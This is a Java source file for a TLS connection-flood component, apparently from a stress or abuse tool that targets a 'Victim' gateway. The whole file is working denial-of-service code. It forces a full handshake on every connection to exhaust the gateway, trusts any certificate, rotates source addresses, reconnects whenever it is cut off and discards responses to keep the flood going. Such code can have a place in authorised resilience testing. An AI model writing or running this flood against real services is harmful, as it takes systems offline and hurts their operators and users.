package io.adjourn.abuse;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;

/**
 * Connections over TLS, each of which does the same again and again; who is closed comes back.
 *
 * @param addresses the strangers' own, in turn
 * @param connections how many there are at once
 * @param protocol by ALPN's name
 * @param act what is done on a connection, until it is closed
 */
record TlsFlood(List<InetAddress> addresses, int connections, String protocol, Act act) implements Flood {

    /** What is done on one connection. */
    interface Act {
        /** Returns when the connection may be closed; fails when it was. */
        void perform(SSLSocket socket, Progress progress) throws IOException;
    }

    @Override
    public void run(Victim victim, Progress progress) throws IOException {
        SSLContext context = TlsClient.trustingAnybody();
        // Each handshake is a whole one: that is what costs the gateway.
        context.getClientSessionContext().setSessionTimeout(1);
        var turn = new AtomicInteger();
        try (var strangers = Executors.newVirtualThreadPerTaskExecutor()) {
            for (int i = 0; i < connections; i++) {
                strangers.execute(() -> {
                    while (!progress.isStopped()) {
                        attack(context, addresses.get(turn.getAndIncrement() % addresses.size()), victim, progress);
                    }
                });
            }
            progress.awaitStop();
            // Some wait for an answer that does not come.
            strangers.shutdownNow();
        }
    }

    private void attack(SSLContext context, InetAddress from, Victim victim, Progress progress) {
        progress.count();
        try (SSLSocket socket = TlsClient.connect(context, from, victim.port(), protocol)) {
            act.perform(socket, progress);
        } catch (IOException e) {
            // Closed by the gateway, as it may do.
        }
    }

    /** Reads and forgets answers beside what is sent, so that a full window is not what stops the gateway. */
    static void readBeside(SSLSocket socket) {
        Thread.ofVirtual().start(() -> {
            try {
                socket.getInputStream().transferTo(OutputStream.nullOutputStream());
            } catch (IOException e) {
                // The connection's own end.
            }
        });
    }
}
